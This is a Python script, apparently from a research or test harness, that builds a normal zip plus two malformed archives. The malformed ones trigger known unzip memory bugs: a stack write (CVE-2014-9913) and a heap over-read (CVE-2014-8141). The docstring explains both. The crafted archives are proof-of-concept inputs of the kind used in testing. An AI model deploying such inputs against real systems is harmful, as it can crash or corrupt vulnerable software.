#!/usr/bin/env python3
"""Make the unzip inputs in the directory given as argv[1]:

  normal.zip     a well-formed archive (stored and deflated members)
  cve-2014-9913.zip
                 three members; the central-directory entry of the second
                 says compression method 65535.  `unzip -v' formats the
                 unknown method with sprintf(&methbuf[4], "%03u", method)
                 into char methbuf[8] on the stack: "65535" and its NUL
                 need 6 bytes at offset 4 -> 2 bytes past the array
                 (stack write).
  cve-2014-8141.zip
                 three members; the central entry of the second has
                 uncompressed size 0xffffffff and a 4-byte extra field
                 holding an empty Zip64 block (id 0x0001, length 0).
                 getZip64Data() then reads the 8-byte Zip64 size at
                 offset 4 of the 4-byte malloc'ed extra field (heap read).

Everything is deterministic (fixed timestamps, fixed contents).
"""
import os, struct, sys, zlib

DOSTIME, DOSDATE = (12 << 11) | (34 << 5), ((2004 - 1980) << 9) | (12 << 5) | 6

def member(name, data, method=8):
    comp = data
    if method == 8:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        comp = c.compress(data) + c.flush()
    return dict(name=name.encode(), data=data, comp=comp, method=method,
                crc=zlib.crc32(data) & 0xffffffff)

def write_zip(path, members, cen_override=None):
    """cen_override: {index: dict(method=, ucsize=, extra=)} changes the
    central-directory entry only (the local header stays sane)."""
    cen_override = cen_override or {}
    out, cen = b"", b""
    for i, m in enumerate(members):
        off = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034b50, 20, 0, m["method"],
                           DOSTIME, DOSDATE, m["crc"], len(m["comp"]),
                           len(m["data"]), len(m["name"]), 0)
        out += m["name"] + m["comp"]
        o = cen_override.get(i, {})
        extra = o.get("extra", b"")
        cen += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014b50, 0x031e, 20, 0,
                           o.get("method", m["method"]), DOSTIME, DOSDATE,
                           m["crc"], len(m["comp"]),
                           o.get("ucsize", len(m["data"])), len(m["name"]),
                           len(extra), 0, 0, 0, 0o100644 << 16, off)
        cen += m["name"] + extra
    eocd = struct.pack("<IHHHHIIH", 0x06054b50, 0, 0, len(members),
                       len(members), len(cen), len(out), 0)
    with open(path, "wb") as f:
        f.write(out + cen + eocd)

def text(n, seed):
    words = b"failure oblivious computing keeps servers running through memory errors".split()
    lines = []
    for i in range(n):
        lines.append(b" ".join(words[(i * seed + j) % len(words)] for j in range(8)))
    return b"\n".join(lines) + b"\n"

d = sys.argv[1]
os.makedirs(d, exist_ok=True)
good = [member("README.txt", text(40, 3), 0),
        member("src/main.c", text(400, 7), 8),
        member("doc/notes.txt", text(200, 5), 8),
        member("data/table.csv", b"".join(b"%d,%d,%d\n" % (i, i * i, i * 7 % 13) for i in range(500)), 8)]
write_zip(os.path.join(d, "normal.zip"), good)

three = [member("first.txt", text(20, 3), 0),
         member("evil.bin", text(10, 11), 0),
         member("last.txt", text(30, 5), 8)]
write_zip(os.path.join(d, "cve-2014-9913.zip"), three, {1: dict(method=65535)})
write_zip(os.path.join(d, "cve-2014-8141.zip"), three,
          {1: dict(ucsize=0xffffffff, extra=struct.pack("<HH", 0x0001, 0))})
